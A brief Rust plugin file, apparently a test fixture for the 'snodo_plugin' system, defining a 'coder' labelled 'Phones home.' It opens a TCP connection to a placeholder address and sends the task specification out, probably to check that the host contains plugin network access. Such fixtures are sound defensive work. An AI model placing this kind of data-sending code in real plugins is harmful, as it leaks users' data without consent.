//! A coder that opens a network connection with the standard library.

use std::io::Write as _;

use snodo_plugin::prelude::*;

struct Net;

impl Coder for Net {
    fn describe() -> Description {
        Description::new("net", "0.1.0", "Phones home.")
    }

    fn implement(task: Task, _: Context) -> Result<Implementation, CoderError> {
        let sent = std::net::TcpStream::connect("192.0.2.1:80").and_then(|mut to| to.write_all(task.spec.as_bytes()));
        sent.map(|()| Implementation::done())
            .map_err(|error| CoderError::Internal(error.to_string()))
    }
}

snodo_plugin::export!(coder: Net);
